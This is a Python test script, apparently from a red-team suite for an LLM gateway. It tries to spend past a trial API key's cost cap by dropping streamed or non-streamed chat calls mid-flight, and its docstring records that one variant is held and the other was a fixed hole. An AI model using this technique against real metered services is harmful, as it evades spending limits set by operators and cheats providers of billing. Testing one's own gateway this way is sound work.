"""Attack pass round 14: spend past a trial key's ``max_cost`` by calls cut on purpose.

Run as ``python3 round14_cut_streams.py BASE_URL KEY N [wait]``: N streamed chat calls one after
the other, each dropped (the connection closed) as soon as the answer's text has come, before the
stream's end (held: LiteLLM logs it as answered, priced); with ``wait``, N calls not streamed,
each dropped 1 s after it was sent (status 0): such a call stayed in flight, its cost counted only
when the trial ended (``Gateway.end``), never against the key's ``max_cost`` while the trial ran
(fixed). Prints one line per call: its HTTP status, the text it received and its seconds.
"""

import http.client
import json
import sys
import time
import urllib.parse


def cut_call(base: str, key: str, stream: bool = True) -> tuple[int, str]:
    url = urllib.parse.urlparse(base)
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
    if not stream:  # a call whose answer is not waited for: dropped 1 s after it was sent
        conn.timeout = 1.0
    body = {"model": "any", "stream": stream,
            "messages": [{"role": "user", "content": "Tell me everything about sandboxes. " * 20}]}
    conn.request("POST", "/v1/chat/completions", json.dumps(body),
                 {"Authorization": f"Bearer {key}", "Content-Type": "application/json"})
    try:
        r = conn.getresponse()
    except TimeoutError:
        conn.sock.shutdown(2)
        conn.close()
        return 0, ""
    text = ""
    if r.status == 200:
        while line := r.fp.readline():
            if line.startswith(b"data:") and b"[DONE]" not in line:
                for choice in json.loads(line[5:]).get("choices") or []:
                    text += (choice.get("delta") or {}).get("content") or ""
                if text:
                    break  # the answer came: go before the stream ends (the call is cut)
    conn.sock.shutdown(2)
    conn.close()
    return r.status, text


if __name__ == "__main__":
    for _ in range(int(sys.argv[3])):
        began = time.monotonic()
        status, text = cut_call(sys.argv[1], sys.argv[2], stream=sys.argv[4:] != ["wait"])
        print(status, json.dumps(text[:40]), f"{time.monotonic() - began:.2f}s", flush=True)
